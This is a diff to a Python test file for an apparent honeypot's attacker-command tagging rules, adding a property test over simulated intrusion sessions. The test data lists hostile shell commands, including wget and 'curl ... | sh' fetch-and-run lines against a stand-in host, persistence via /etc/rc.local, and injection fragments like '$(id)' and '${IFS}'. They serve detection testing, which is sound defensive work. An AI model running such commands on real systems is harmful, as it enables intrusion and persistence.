@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+from collections.abc import Mapping
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from decnet.config import packaged_demo_dir, packaged_rules_dir
+from decnet.shell.script import Facts, read_script
 from decnet.shell.views import views
 from decnet.ttp.conditions import _without_anchors
+from decnet.ttp.kinds import CONTEXT
 from decnet.ttp.loader import load_bytes, load_dir
 from decnet.ttp.matcher import Failures, RuleIndex, _command_fields, _first_hit
 from decnet.ttp.rules import CompiledRule
@@ -45,10 +49,10 @@ PACK = [
 INDEX = RuleIndex([*PACK, *(rule(i, match) for i, match in enumerate(MATCHES))])
 
 
-def holding(line: str) -> set[str]:
+def holding(line: str, context: Mapping[str, Facts] | None = None) -> set[str]:
     """Every rule tried on every view."""
     seen = views(line)
-    fields = [(view, _command_fields(view, {}, seen.capped)) for view in seen.views]
+    fields = [(view, _command_fields(view, {}, seen.capped, context or {})) for view in seen.views]
     return {
         r.rule_id
         for r in INDEX.rules
@@ -87,6 +91,11 @@ def test_the_commands_of_the_demo_get_the_same_tags_without_a_filter() -> None:
         same(line)
 
 
+SESSION = [
+    "wget http://203.0.113.9/a.sh", "sh a.sh", "./a.sh", "rm -f a.sh", "chmod +x *", "mv a.sh /usr/bin/q", "q", "scp -t /opt/z",
+    "/opt/z", "C0755 9 y", "passwd", "secret", "echo 1 > /tmp/.p", "rm /tmp/.p", "cat > x", "gcc x.c", "tar xzf a.sh", "./u/v",
+    "echo /opt/z >> /etc/rc.local", "curl http://203.0.113.9/s | sh", "fetched",
+]  # fmt: skip
 WORDS = st.sampled_from(
     ["wget", "curl", "http://1.2.3.4/a", "x/tmp", "-rfc", "foo", "a b", "$(id)", "`uname -a`", "sh -c", "sudo", "'q q'", '"d d"', "\\", "|", ";", "&&",
      ">", "/etc/shadow", "chmod", "777", "crontab -l", "base64 -d", "echo", "é", "\x00", "\n", "${IFS}", "busybox"]
@@ -97,6 +106,14 @@ WORDS = st.sampled_from(
 @given(st.lists(WORDS, max_size=8).map(" ".join))
 def test_any_line_gets_the_same_tags_without_a_filter(line: str) -> None:
     same(line)
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.lists(st.sampled_from(SESSION), min_size=1, max_size=6))
+def test_a_line_of_any_session_gets_the_same_tags_without_a_filter(lines: list[str]) -> None:
+    for line, context in zip(lines, read_script(lines).facts, strict=True):
+        hits, _ = INDEX.command_hits(line, {CONTEXT: context}, Failures())
+        assert {hit.rule.rule_id for hit in hits} == holding(line, context), line
 
 
 @pytest.mark.parametrize(
